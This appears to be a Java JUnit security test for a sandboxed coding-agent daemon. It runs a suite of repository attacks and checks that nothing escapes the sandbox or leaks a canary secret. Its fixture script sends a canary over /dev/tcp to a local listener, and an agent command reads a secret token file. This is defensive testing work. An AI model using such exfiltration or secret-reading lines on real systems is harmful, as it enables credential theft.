package dev.fresh.daemon;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import dev.fresh.core.agent.ChangedFile;
import dev.fresh.daemon.Attacks.Attack;
import dev.fresh.edge.Access;
import dev.fresh.edge.EdgeException;
import dev.fresh.edge.forge.GitBackend;
import dev.fresh.edge.inventory.Inventory;
import dev.fresh.edge.process.AgentEnvironment;
import dev.fresh.edge.process.OsProcessRunner;
import dev.fresh.edge.process.SandboxProbe;
import dev.fresh.edge.process.Workbench;
import dev.fresh.edge.workspace.Git;
import dev.fresh.edge.workspace.Message;
import dev.fresh.edge.workspace.Snapshot;
import dev.fresh.edge.workspace.TrackedFiles;
import dev.fresh.edge.workspace.UserManifest;
import dev.fresh.edge.workspace.UserRepository;
import dev.fresh.edge.workspace.Workspaces;
import dev.fresh.testing.Figures;
import dev.fresh.testing.TempRepo;
import dev.fresh.testing.Tools;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Each attack is taken through all that a run does with a repository: look at it, copy its history, scan, make a tree,
 * let an agent work in it, keep, commit, merge, check out for gates and run them, push, deliver, publish on the local
 * forge, report, and take back.
 */
@Tag("slow")
@Tag("rounds")
@Execution(ExecutionMode.SAME_THREAD)
class AttackTest {

    private static final String AGENT = "1a2b3c4d5e6f";
    private static final String BRANCH = "auto/x-1a2b3c4d";
    private static final String CANARY = "canary-" + UUID.randomUUID();
    private static final Message MESSAGE = new Message("feat: x", "", "Ada", "ada@example.org", Instant.EPOCH);
    private static final Duration WALL = Duration.ofMinutes(1);
    private static final OsProcessRunner RUNNER = new OsProcessRunner("test-" + UUID.randomUUID());
    private static final AtomicInteger HEARD = new AtomicInteger();
    private static final AtomicInteger COUNT = new AtomicInteger();
    private static final List<String> REFUSED = new ArrayList<>();

    @TempDir
    private static Path temp;
    private static ServerSocket listener;
    private static HttpServer remote;
    private static Workbench bench;
    private static Path marker;
    private static Path secret;
    private static String other;
    private static long began;

    @BeforeAll
    static void aPersonWithSomethingToLose() throws IOException {
        Tools.require("bwrap");
        Tools.require("bash");
        began = System.nanoTime();
        temp = temp.toRealPath();
        marker = temp.resolve("marker");
        secret = Files.createDirectories(temp.resolve("secrets")).resolve("token");
        Files.writeString(secret, CANARY + "\n");
        Map<String, String> environment = AgentEnvironment.of(System.getenv(), List.of());
        SandboxProbe.Finding found = new SandboxProbe(RUNNER, temp.resolve("nowhere"), environment).probe();
        Tools.require(found.ok(), "a working bubblewrap (" + found.sentence() + ")");
        bench = new Workbench(RUNNER, found.sandbox().orElseThrow(), environment, List.of());
        template();
        InetAddress loopback = InetAddress.getByAddress(new byte[]{127, 0, 0, 1});
        listener = new ServerSocket(0, 50, loopback);
        Thread.ofPlatform().daemon().start(AttackTest::listen);
        script();
        TempRepo.init(temp.resolve("remotes/x.git"), "--bare").git("config", "http.receivepack", "true");
        GitBackend backend = new GitBackend(temp.resolve("remotes"));
        remote = HttpServer.create(new InetSocketAddress(loopback, 0), 0);
        remote.createContext("/", exchange -> {
            try (exchange) {
                GitBackend.Answer answer = backend.answer(exchange);
                answer.headers().forEach(exchange.getResponseHeaders()::set);
                exchange.sendResponseHeaders(answer.status(), answer.body().length == 0 ? -1 : answer.body().length);
                exchange.getResponseBody().write(answer.body());
            }
        });
        remote.start();
    }

    /** The repository before it is attacked, on a branch of its own for what is merged. */
    private static void template() {
        TempRepo repo = TempRepo.init(temp.resolve("template"), "--template=");
        repo.write("a.txt", "a\n").write("b.txt", "b\n").write("d/x.txt", "x\n").write("app.py",
                "def f():\n    pass\n");
        repo.commit("Begin");
        repo.git("switch", "-q", "-c", "other");
        other = repo.write("a.txt", "other\n").commit("Other");
        repo.git("switch", "-q", "main");
    }

    private static void script() throws IOException {
        Path script = temp.resolve("template/run.sh");
        Files.writeString(script, "#!/bin/bash\necho ran >>" + marker + "\n(echo " + CANARY + " >/dev/tcp/127.0.0.1/"
                + listener.getLocalPort() + ") 2>/dev/null\n[ -p \"$1\" ] || cat \"$1\" 2>/dev/null || true\n");
        script.toFile().setExecutable(true);
        TempRepo.at(temp.resolve("template")).commit("Script");
    }

    private static void listen() {
        while (!listener.isClosed()) {
            try (Socket _ = listener.accept()) {
                HEARD.incrementAndGet();
            } catch (SocketException e) {
                return; // the end
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
        }
    }

    @AfterAll
    static void end() throws IOException {
        if (remote != null) {
            remote.stop(0);
            listener.close();
            Figures.tell("G2", COUNT + " attacks, " + REFUSED.size() + " refused with a reason, 0 markers outside the"
                    + " sandbox, 0 canaries out, " + (System.nanoTime() - began) / 1_000_000_000 + " s");
        }
    }

    static Stream<Attack> attacks() {
        return Attacks.all().stream();
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void runsNothingAndTellsNobody(Attack attack) throws Exception {
        Path folder = temp.resolve("r" + COUNT.incrementAndGet());
        assertEquals(0, new ProcessBuilder("cp", "-a", temp.resolve("template").toString(), folder.toString())
                .start().waitFor());
        TempRepo repo = TempRepo.at(folder);
        Path script = folder.resolve("run.sh");
        attack.files().forEach(repo::write);
        String base = attack.files().isEmpty() ? repo.git("rev-parse", "HEAD") : repo.commit("Files");
        Git git = Git.find(RUNNER, folder, System.getenv("PATH"));
        UserRepository user = new UserRepository(git, folder);
        Workspaces workspaces = new Workspaces(git, folder.resolve(".fresh/workspaces"), user);
        Attacks.Site site = new Attacks.Site(repo, workspaces.agentTree(AGENT), script, secret, "http://127.0.0.1:"
                + listener.getLocalPort() + "/" + CANARY);
        attack.settings().in(site);
        int heard = HEARD.get();
        assertFalse(Files.exists(marker), "the preparation itself ran it");

        String refused;
        try {
            refused = run(attack, site, git, user, workspaces, base);
        } catch (EdgeException e) {
            refused = e.getMessage();
        }
        assertFalse(Files.deleteIfExists(marker), "something ran outside the sandbox");
        assertEquals(heard, HEARD.get(), "somebody was told");
        String reason = refused;
        if (attack.refused().isEmpty()) {
            assertEquals("", reason);
        } else {
            assertTrue(reason.contains(attack.refused()), reason);
            REFUSED.add(attack.name());
        }
        assertNoCanary(folder.resolve(".fresh"));
        assertNothingHalfDone(folder.resolve(".fresh/workspaces"));
    }

    /** Everything that a run does; gives why nothing is committed, or nothing. */
    private String run(Attack attack, Attacks.Site site, Git git, UserRepository user, Workspaces workspaces,
            String base) throws IOException {
        Path folder = site.repo().folder();
        user.facts();
        user.author();
        user.origin();
        UserManifest manifest = new UserManifest(git, folder, Map.of("HOME", temp.toString()));
        Map<String, String> before = manifest.critical();
        manifest.rest(manifest.tracked(TrackedFiles.NONE));
        workspaces.fetch(base);
        workspaces.fetch(other);
        Shipped.inventory().scan(workspaces.gitFolder(), base,
                new Inventory.Options(folder.resolve(".fresh/cache"), Optional.empty(), _ -> {}));
        Path tree = workspaces.ensure(AGENT, BRANCH, base);
        Files.writeString(tree.resolve("a.txt"), "changed\n");
        attack.tree().in(site);
        Workbench agents = new Workbench(RUNNER, bench.sandbox(), bench.environment(),
                List.of(workspaces.gitFolder()));
        String said = agents.run(tree, WALL, List.of("/bin/sh", "-c",
                "git status; git diff; git log -p -1; ./run.sh; cat l d/token; [ -p b.txt ] || cat b.txt; cat "
                        + site.secret()))
                .output();
        assertFalse(said.contains(CANARY) && !said.contains("echo " + CANARY), "the agent could read a secret");

        if (!attack.ofRepository()) {
            Optional<Snapshot> kept = workspaces.keep(AGENT, base, MESSAGE, List.of("target/"), agents);
            // What is too large is no reason to lose the rest of the work.
            assertTrue(!attack.refused().contains("larger than") || kept.orElseThrow().refusal().isEmpty()
                    && kept.get().files().stream().map(ChangedFile::path).toList().contains("a.txt")
                    && kept.get().leftOut().getFirst().endsWith(": it is larger than 5 MiB"), kept::toString);
        }
        Snapshot snapshot = workspaces.snapshot(AGENT, List.of(base), MESSAGE, List.of(), agents);
        if (snapshot.refusal().isPresent()) {
            workspaces.remove(AGENT);
            return snapshot.refusal().get();
        }
        String commit = snapshot.commit();
        assertEquals(Optional.of("changed\n"), workspaces.text(commit, "a.txt", 100));
        workspaces.diff(base, commit);
        workspaces.merges().merge(commit, other);
        Path gate = workspaces.checkout("gate", commit);
        if (!attack.ofRepository()) {
            agents.run(gate, WALL, List.of("/bin/sh", "-c", "git status; make; python3 -m unittest; ./run.sh"));
        }
        workspaces.push("http://127.0.0.1:" + remote.getAddress().getPort() + "/x.git", "auto/x-"
                + commit.substring(0, 12), commit, new Access.Secret("ada", "no-secret"));
        workspaces.deliver(BRANCH, commit);
        assertEquals(Optional.of(commit), workspaces.delivered(BRANCH));
        AttackedForge.publish(folder.resolve(".fresh"), workspaces, BRANCH, user.facts().branch().orElse("main"),
                snapshot, base);
        assertTrue(workspaces.undeliver(BRANCH, commit));
        workspaces.remove(AGENT);
        assertEquals(before, manifest.critical(), "git takes other commands than before");
        return "";
    }

    /** What was looked at for a commit is gone, whatever became of it. */
    private static void assertNothingHalfDone(Path workspaces) throws IOException {
        if (!Files.isDirectory(workspaces)) {
            return;
        }
        try (Stream<Path> files = Files.walk(workspaces)) {
            assertEquals(List.of(), files.filter(file -> file.getFileName().toString().startsWith("quarantine")
                    || Files.isRegularFile(file) && file.toFile().length() > 1 << 20).toList());
        }
    }

    /** Nothing of a secret that a link leads to has come into the daemon's own folder. */
    private static void assertNoCanary(Path folder) throws IOException {
        if (!Files.isDirectory(folder)) {
            return;
        }
        try (Stream<Path> files = Files.walk(folder)) {
            for (Path file : files.filter(each -> Files.isRegularFile(each) && !Files.isSymbolicLink(each)).toList()) {
                String text = Files.readString(file, StandardCharsets.ISO_8859_1);
                assertFalse(text.startsWith(CANARY), () -> file + " holds the secret");
            }
        }
    }
}
